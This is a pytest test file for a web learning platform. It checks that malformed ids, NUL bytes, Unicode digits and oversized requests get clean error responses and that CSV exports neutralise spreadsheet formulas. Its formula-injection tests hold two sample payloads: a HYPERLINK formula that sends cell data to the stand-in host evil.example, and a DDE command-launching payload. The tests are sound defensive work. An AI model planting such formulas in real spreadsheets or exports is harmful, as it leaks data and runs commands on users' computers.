"""Odd and out-of-range input gives a clear 400, 404, 413 or a form error, never a 500;
CSV exports cannot carry spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import quote

import pytest
from sqlalchemy import select, update

from kampus.catalogue.models import Module, Theme
from kampus.catalogue.services import bump_version
from kampus.extensions import db
from kampus.paths import services as paths
from kampus.progress import services as progress
from tests.factories import csrf_token, login, make_team, make_user

ODD_IDS = ("99999999999999999999", "0", "²")


def rows_of(response) -> list[dict]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8").lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


# --- item 3: CSV injection ----------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_safe_cell_prefixes_every_formula_start(text):
    from kampus.exports import safe_cell

    assert safe_cell(text) == "'" + text


def test_safe_cell_leaves_ordinary_text_and_numbers_alone():
    from kampus.exports import safe_cell

    assert [safe_cell(v) for v in ("Äijä", "", None, 0, -5, 87)] == ["Äijä", "", "", 0, -5, 87]


def test_every_csv_export_neutralises_formulas_in_names_and_team_names(app, world):
    evil = make_user(world.org_a, name='=HYPERLINK("http://evil.example/?"&A1,"click")', email="evil@example.fi")
    team = make_team(world.org_a, "+cmd|' /C calc'!A0", [evil])
    progress.start_module(evil.id, db.session.scalar(select(Module).where(Module.slug == "digcomp-perusteet")))
    db.session.commit()
    client = app.test_client()
    login(client, world.manager_a.email)
    for url in ("/org/export.csv", f"/org/teams/{team.id}/export.csv"):
        rows = [r for r in rows_of(client.get(url)) if r["Sähköposti"] == "evil@example.fi"]
        assert rows, url
        for row in rows:
            assert row["Nimi"] == "'" + evil.name
            assert row["Tiimit"].startswith("'+cmd")
            assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


# --- item 9: ids, query numbers, Unicode digits, NUL bytes ---------------------------------------


def test_an_id_beyond_64_bits_is_not_found(app, world):
    client = app.test_client()
    login(client, world.manager_a.email)
    for value in ODD_IDS:
        assert client.get(f"/org/teams/{quote(value)}").status_code == 404
        assert client.get(f"/org/teams/{quote(value)}/export.csv").status_code == 404
    assert client.get(f"/org/teams/{world.team_a.id}").status_code == 200


def _walk(client, rules) -> list[str]:
    """GET every rule with each odd value in every URL argument and odd numbers in the query."""
    failures = []
    queries = (
        "",
        "?page=99999999999999999999&section=99999999999999999999&template=99999999999999999999"
        "&author=99999999999999999999&organisation=99999999999999999999",
        "?page=%C2%B2&section=-1&template=%C2%B2&author=0&organisation=%C2%B2",
    )
    for rule in rules:
        for value in ODD_IDS if rule.arguments else ("",):
            url = re.sub(r"<[^>]+>", quote(value), rule.rule)
            for query in queries:
                try:
                    status = client.get(url + query).status_code
                except Exception as exc:  # TESTING propagates errors: a crash is a 500
                    failures.append(f"{url}{query}: {type(exc).__name__}: {exc}")
                    continue
                if status >= 500:
                    failures.append(f"{url}{query}: {status}")
    return failures


@pytest.mark.parametrize("role", ["admin", "manager_a"])
@pytest.mark.slow
def test_every_get_route_survives_odd_ids_and_query_numbers(app, world, role):
    client = app.test_client()
    login(client, getattr(world, role).email)
    rules = [r for r in app.url_map.iter_rules() if "GET" in r.methods and r.endpoint != "static"]
    assert len(rules) > 40
    failures = _walk(client, rules)
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize(
    "url", ["/themes/%00", "/modules/a%00b", "/?q=%00", "/org/staff?q=a%00b", "/admin/users?q=%00"]
)
def test_a_nul_byte_in_a_path_or_query_is_a_bad_request(app, world, url):
    client = app.test_client()
    login(client, world.admin.email)
    assert client.get(url).status_code == 400


def test_a_nul_byte_in_a_form_field_is_a_bad_request(app, world):
    client = app.test_client()
    response = client.post("/login", data={"email": "a\x00@x.fi", "password": "x", "csrf_token": csrf_token(client)})
    assert response.status_code == 400
    login(client, world.manager_a.email)
    response = client.post("/org/teams", data={"name": "Tiimi\x00", "csrf_token": csrf_token(client, "/org/teams")})
    assert response.status_code == 400


def test_unicode_digits_in_self_check_answers_are_ignored_not_a_crash(app, world):
    client = app.test_client()
    login(client, world.learner_a.email)
    module = db.session.scalar(select(Module).where(Module.slug == "oppimateriaalin-laatu"))
    question = module.questions[0]
    token = csrf_token(client, f"/modules/{module.slug}/study")
    response = client.post(f"/modules/{module.slug}/check", data={f"q{question.id}": "²", "csrf_token": token})
    assert response.status_code == 400  # a question left unanswered: shown beside the form
    assert client.get("/org/assignments?template=%C2%B2").status_code in (302, 403)


def test_a_csv_field_longer_than_the_csv_limit_is_a_row_error(app, world):
    client = app.test_client()
    login(client, world.manager_a.email)
    content = b"name,email,team\n" + b'"' + b"x" * 140_000 + b'",long@example.fi,\nOk,ok@example.fi,\n'
    response = client.post(
        "/org/staff/import",
        data={"file": (io.BytesIO(content), "staff.csv"), "csrf_token": csrf_token(client, "/org/staff/import")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "Riviä ei voitu lukea" in page and "ok@example.fi" in page


def test_a_plan_that_would_end_after_the_year_9999_does_not_break_the_dashboard(app, world):
    theme = db.session.scalar(select(Theme).order_by(Theme.position))
    db.session.execute(update(Module).where(Module.theme_id == theme.id).values(minutes=100_000))
    bump_version()
    path = paths.create_path(
        world.learner_a.id, title="Ikuinen polku", module_slugs=[], theme_slugs=[theme.slug], minutes_per_week=1
    )
    db.session.commit()
    client = app.test_client()
    login(client, world.learner_a.email)
    assert client.get("/me").status_code == 200
    page = client.get(f"/paths/{path.id}")
    assert page.status_code == 200 and "9999" in page.get_data(as_text=True)


# --- item 10: request size --------------------------------------------------------------------------


def test_a_five_megabyte_anonymous_post_is_refused_with_a_413_page(app):
    client = app.test_client()
    response = client.post("/login", data={"email": "x" * (5 * 1024 * 1024), "password": "y"})
    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert "Liikaa tietoa" in page and "suurempi kuin 1 Mt" in page and len(page) < 50_000


def test_the_staff_import_accepts_more_than_the_general_limit(app, world):
    client = app.test_client()
    login(client, world.manager_a.email)
    content = b"name,email,team\n" + b"".join(b"N,n%d@example.fi,\n" % i for i in range(80_000))  # about 1.6 MB
    assert len(content) > 1024 * 1024
    response = client.post(
        "/org/staff/import",
        data={"file": (io.BytesIO(content), "staff.csv"), "csrf_token": csrf_token(client, "/org/staff/import")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200  # the import's own rule (1 MB per file) answers, as a form error
    assert "Tiedosto on suurempi kuin 1 Mt" in response.get_data(as_text=True)
